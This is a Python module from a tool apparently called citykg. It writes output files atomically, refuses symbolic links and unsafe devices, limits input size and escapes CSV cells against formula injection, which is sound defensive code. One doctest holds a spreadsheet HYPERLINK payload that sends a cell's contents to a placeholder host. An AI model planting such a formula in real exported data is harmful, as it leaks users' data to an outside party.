"""Writing output files whole or not at all, and only where a file belongs.

``-o PATH`` may name a new file, an existing regular file (replaced whole, keeping its mode),
or a stream: a pipe (FIFO), a terminal, or ``/dev/null``, ``/dev/zero``, ``/dev/full``, written
into in place and never replaced (``-o /dev/stdout`` and ``-o /dev/null`` work as in any
tool; an atomic rename would turn the device into a regular file, and as root replace the
system's own). A symbolic link to a file, a folder, a socket or any other device is refused
with one line: replacing a link would break it, writing through it would let whoever made the
link choose which file citykg overwrites.

New files that may hold internal data (``private=True``: ``--include-internal``, local
queries) are created readable by their owner only (0600).

Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(``=HYPERLINK(...)`` in a partner's name becomes a link that sends data away): every CSV
citykg writes passes its cells through :func:`spreadsheet_safe`.
"""

from __future__ import annotations

import contextlib
import os
import re
import stat
import tempfile
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import IO, Any

from citykg.errors import CitykgError

__all__ = [
    "MAX_INPUT_BYTES",
    "check_output_path",
    "open_output",
    "read_input",
    "spreadsheet_safe",
    "write_atomic",
    "write_atomic_files",
    "write_output_file",
]

#: The most a text input read whole (a dataset file, a member list, a document, a query) may
#: hold; the biggest dataset file of a 10M-triple synthetic world is about 50 MB.
MAX_INPUT_BYTES = 1024 * 1024 * 1024


def read_input(path: Path, limit: int = MAX_INPUT_BYTES) -> bytes:
    """The bytes of the regular file ``path``, at most ``limit`` of them.

    Raises ``OSError`` like ``Path.read_bytes`` (``IsADirectoryError`` for a folder), and
    :class:`~citykg.errors.CitykgError` for a device, pipe or socket (``/dev/zero`` never
    ends) and for a file over ``limit``.

    Examples
    --------
    >>> read_input(Path("/dev/zero"))
    Traceback (most recent call last):
    ...
    citykg.errors.CitykgError: /dev/zero: is a device, pipe or socket, not a file. Give a file.
    """
    with path.open("rb") as stream:
        info = os.fstat(stream.fileno())
        if stat.S_ISDIR(info.st_mode):
            raise IsADirectoryError(21, "Is a directory", str(path))
        if not stat.S_ISREG(info.st_mode):
            raise CitykgError("is a device, pipe or socket, not a file", "Give a file.", file=path)
        data = stream.read(limit + 1)
    if len(data) > limit:
        raise CitykgError(
            f"is bigger than {limit // 2**20} MB, more than citykg reads whole",
            "Split it into several files.",
            file=path,
        )
    return data


#: Links to this process's own open files: written into, appended to (``>>`` stays ``>>``).
_OWN_FDS = ("/dev/fd/", "/proc/self/fd/")
# /dev/null, /dev/zero, /dev/full: Linux's memory devices that are safe to write into.
_MEMORY_DEVICES = {(1, 3), (1, 5), (1, 7)}


def _is_stream_device(path: Path, mode: int, rdev: int) -> bool:
    if stat.S_ISFIFO(mode):
        return True
    if not stat.S_ISCHR(mode):
        return False
    if (os.major(rdev), os.minor(rdev)) in _MEMORY_DEVICES:
        return True
    # A terminal (the user's own, /dev/stdout on a terminal, /dev/pts/N).
    with contextlib.suppress(OSError):
        fd = os.open(path, os.O_WRONLY | os.O_NOCTTY | os.O_NONBLOCK)
        try:
            return os.isatty(fd)
        finally:
            os.close(fd)
    return False


def check_output_path(path: Path) -> bool:
    """Check that ``path`` may be written as an output; True if it is a stream to write into
    in place (a pipe, a terminal, ``/dev/null``), False if it is a file to write atomically.

    Raises :class:`~citykg.errors.CitykgError` for a folder, a symbolic link to anything but
    a stream, a socket or another device.

    Examples
    --------
    >>> check_output_path(Path("/dev/null")), check_output_path(Path("new-file.ttl"))
    (True, False)
    """
    try:
        info = os.lstat(path)
    except FileNotFoundError:
        return False
    except OSError as exc:
        raise CitykgError(
            f"cannot write the file ({exc.strerror})", "Choose another -o path.", file=path
        ) from None
    if stat.S_ISREG(info.st_mode):
        return False
    if stat.S_ISLNK(info.st_mode):
        if str(path) in ("/dev/stdout", "/dev/stderr") or str(path).startswith(_OWN_FDS):
            return True  # this process's own output, whatever it was opened on
        # /dev/stdout is a link to /proc/self/fd/1, itself a link to a pipe or a terminal.
        with contextlib.suppress(OSError):
            target = os.stat(path)
            if _is_stream_device(path, target.st_mode, target.st_rdev):
                return True
        raise CitykgError(
            "is a symbolic link; citykg replaces files, never writes through a link",
            f"Give the file it points to ({os.path.realpath(path)}) or another -o path.",
            file=path,
        )
    if _is_stream_device(path, info.st_mode, info.st_rdev):
        return True
    problem = (
        "cannot write the file (Is a directory)"
        if stat.S_ISDIR(info.st_mode)
        else "is a device or socket, not a file"
    )
    raise CitykgError(problem, "Choose another -o path.", file=path)


def _new_mode(private: bool) -> int:
    if private:
        return 0o600
    umask = os.umask(0)
    os.umask(umask)
    return 0o666 & ~umask


@contextlib.contextmanager
def open_output(path: Path, *, binary: bool = False, private: bool = False) -> Iterator[IO[Any]]:
    """A handle to write ``path`` through: a temporary file beside it, renamed over ``path``
    when the ``with`` block ends without an error (deleted when it raises), or the stream
    itself when ``path`` is one (see :func:`check_output_path`).

    An existing file keeps its mode (and, for root, its owner); a new one gets the mode a
    plain write would give, or 0600 when ``private``. Raises ``OSError`` like ``open``.
    """
    if check_output_path(path):
        fd = os.open(path, os.O_WRONLY | os.O_NOCTTY | os.O_APPEND)
        with _fdopen(fd, binary) as stream:
            yield stream
        return
    try:
        existing: os.stat_result | None = os.stat(path)
    except FileNotFoundError:
        existing = None
    handle, name = tempfile.mkstemp(dir=path.parent, prefix=f".{path.name}.", suffix=".tmp")
    try:
        with _fdopen(handle, binary) as out:
            yield out
        if existing is not None:
            os.chmod(name, stat.S_IMODE(existing.st_mode))
            if os.geteuid() == 0:
                with contextlib.suppress(OSError):
                    os.chown(name, existing.st_uid, existing.st_gid)
        else:
            os.chmod(name, _new_mode(private))
        os.replace(name, path)
    except BaseException:
        with contextlib.suppress(OSError):
            os.unlink(name)
        raise


def _fdopen(fd: int, binary: bool) -> IO[Any]:
    if binary:
        return os.fdopen(fd, "wb")
    return os.fdopen(fd, "w", encoding="utf-8", newline="\n")


def write_atomic(path: Path, text: str | bytes, *, private: bool = False) -> None:
    """Write ``text`` (UTF-8, ``\\n`` line ends; bytes as they are) to ``path`` through a
    temporary file beside it (see :func:`open_output`).

    A reader, or a crash half-way, never sees half a file: the finished file replaces
    ``path`` in one ``os.replace``. Raises ``OSError`` like ``Path.write_text``, and
    :class:`~citykg.errors.CitykgError` for a path that is not a file (a folder, a link).

    Examples
    --------
    >>> import tempfile
    >>> target = Path(tempfile.mkdtemp()) / "out.txt"
    >>> write_atomic(target, "København\\n")
    >>> target.read_text(encoding="utf-8")
    'København\\n'
    """
    with open_output(path, binary=isinstance(text, bytes), private=private) as out:
        out.write(text)


def write_atomic_files(files: Sequence[tuple[Path, str]], *, private: bool = False) -> None:
    """Write several files that belong together (a CSV pair) all or none.

    Each is written to a temporary file first; only when all are complete are they renamed
    into place, so a full disk never leaves one new file beside an old or missing other.
    """
    for path, _ in files:
        if check_output_path(path):
            raise CitykgError(
                "is a stream; files that belong together are written to regular files",
                "Choose a folder or a file prefix with -o.",
                file=path,
            )
    with contextlib.ExitStack() as stack:
        handles = [stack.enter_context(open_output(path, private=private)) for path, _ in files]
        for handle, (_, text) in zip(handles, files, strict=True):
            handle.write(text)


def write_output_file(path: Path, text: str, *, private: bool = False) -> None:
    """:func:`write_atomic` for an output the user named with ``-o``; a failure is a
    :class:`~citykg.errors.CitykgError` naming the file."""
    try:
        write_atomic(path, text, private=private)
    except OSError as exc:
        raise CitykgError(
            f"cannot write the file ({exc.strerror})", "Choose another -o path.", file=path
        ) from None


#: A cell a spreadsheet would run: a formula sign first, or a control character that some
#: programs skip before one.
_FORMULA = re.compile(r"^[=+\-@\t\r\n|%]")
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def spreadsheet_safe(cell: str) -> str:
    """``cell`` as a spreadsheet shows it as text: a leading ``'`` before a formula sign.

    Numbers (``-3``, ``+45``, ``-0.5``) stay as they are; anything else that starts with
    ``=``, ``+``, ``-``, ``@``, ``|``, ``%``, a tab or a line break gets the quote (OWASP's
    advice on CSV injection).

    Examples
    --------
    >>> spreadsheet_safe('=HYPERLINK("http://x.example/?"&A1,"Click")')
    '\\'=HYPERLINK("http://x.example/?"&A1,"Click")'
    >>> spreadsheet_safe("-0.25"), spreadsheet_safe("Copenhagen")
    ('-0.25', 'Copenhagen')
    """
    if _FORMULA.match(cell) and not _NUMBER.match(cell):
        return "'" + cell
    return cell
